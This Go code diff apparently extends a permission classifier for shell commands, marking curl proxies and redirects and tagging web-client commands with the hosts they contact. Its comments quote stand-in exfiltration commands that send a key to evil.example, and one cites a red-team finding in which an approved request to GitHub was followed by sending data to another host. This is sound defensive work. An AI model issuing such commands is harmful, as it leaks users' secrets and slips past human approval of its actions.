@@ -288,6 +288,10 @@ func (w walker) curlMarks(args []word) []string {
 	}
 	if curlHas(args, curlRedirects) && (curlHas(args, curlAuth) || curlHeaderAuth(args)) {
 		marks = append(marks, "redirects-auth")
+	} else if curlHas(args, curlRedirects) {
+		// The request goes to another host or through a proxy, which sees
+		// it (curl -x http://evil.example https://api.github.com/…).
+		marks = append(marks, "redirected")
 	}
 	return marks
 }
@@ -405,4 +409,59 @@ func curlSocketMarks(args []word) []string {
 		return []string{"unix-socket"}
 	}
 	return nil
+}
+
+// webClients are the network clients that fetch URLs: the hosts they
+// are given are a mark of their own ("Bash:curl [hosts:api.github.com]"),
+// so that approving requests to one host vouches for nothing sent to
+// another (curl -s https://evil.example/?d=KEY after curl of GitHub's
+// API: the ninth red-team pass).
+var webClients = set("curl", "wget", "wget2", "http", "https", "xh", "xhs", "httpie", "aria2c", "httpx", "hurl", "curlie", "grpcurl",
+	"websocat", "lynx", "links", "w3m", "elinks", "fetch")
+
+// bareHost matches an operand that names a host without a scheme, as
+// curl and wget accept one (example.com/x, 10.0.0.1:8080).
+var bareHost = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9.-]*\.[A-Za-z0-9-]*[A-Za-z0-9](:[0-9]+)?(/|$)`)
+
+// hostMarks returns the hosts mark of a web client's command.
+func hostMarks(prog string, args []word) []string {
+	if !webClients[prog] {
+		return nil
+	}
+	var hosts []string
+	for _, a := range args {
+		t := a.text
+		if strings.HasPrefix(t, "-") {
+			continue
+		}
+		if !a.lit {
+			hosts = append(hosts, "?") // a URL built when it runs
+			continue
+		}
+		rest, ok := "", false
+		if _, after, found := strings.Cut(t, "://"); found {
+			rest, ok = after, true
+		} else if _, _, hasPath := strings.Cut(t, "/"); bareHost.MatchString(t) && (hasPath || !looksLikeFile(t)) {
+			rest, ok = t, true
+		}
+		if !ok {
+			continue
+		}
+		host := rest
+		if i := strings.IndexAny(host, "/?#"); i >= 0 {
+			host = host[:i]
+		}
+		if i := strings.LastIndexByte(host, '@'); i >= 0 {
+			host = host[i+1:]
+		}
+		host = strings.TrimSuffix(strings.ToLower(host), ".")
+		if host == "" {
+			host = "?"
+		}
+		hosts = append(hosts, host)
+	}
+	if len(hosts) == 0 {
+		return nil
+	}
+	return []string{"hosts:" + joinTargets(hosts)}
 }
